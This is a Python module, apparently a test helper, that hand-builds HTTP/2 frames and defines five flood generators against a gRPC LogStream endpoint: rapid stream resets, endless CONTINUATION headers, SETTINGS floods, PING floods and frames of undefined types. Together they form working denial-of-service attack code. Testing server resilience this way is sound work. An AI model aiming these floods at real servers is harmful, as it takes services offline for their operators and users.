"""HTTP/2 by hand (RFC 9113), for what no library would send."""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 0x4


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header(name: str, value: str) -> bytes:
    """A literal header field that no table needs to know (RFC 7541, 6.2.2)."""
    assert len(name) < 127, name
    assert len(value) < 127, value
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


CALL = b"".join(
    header(name, value)
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/jumpstarter.v1.ExporterService/LogStream"),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)


def opened(address: str) -> socket.socket:
    """A connection that has said hello."""
    host, _, port = address.rpartition(":")
    sock = socket.create_connection((host, int(port)), timeout=1)
    sock.sendall(PREFACE + frame(SETTINGS))
    return sock


def resets() -> Iterator[bytes]:
    """Calls that are cancelled as soon as they are made."""
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuations() -> Iterator[bytes]:
    """Headers that do not end."""
    yield frame(HEADERS, 0, 1, CALL)
    field = header("x-more", "y" * 100)
    while True:
        yield frame(CONTINUATION, 0, 1, field * 100)


def settings() -> Iterator[bytes]:
    """Settings, each of which wants an answer."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100


def pings() -> Iterator[bytes]:
    """Pings, each of which wants an answer."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 100


def garbage() -> Iterator[bytes]:
    """Frames of types that nobody has defined."""
    while True:
        yield frame(0xEE, 0xFF, 7, b"x" * 16000)


FLOODS: tuple[Callable[[], Iterator[bytes]], ...] = (resets, continuations, settings, pings, garbage)
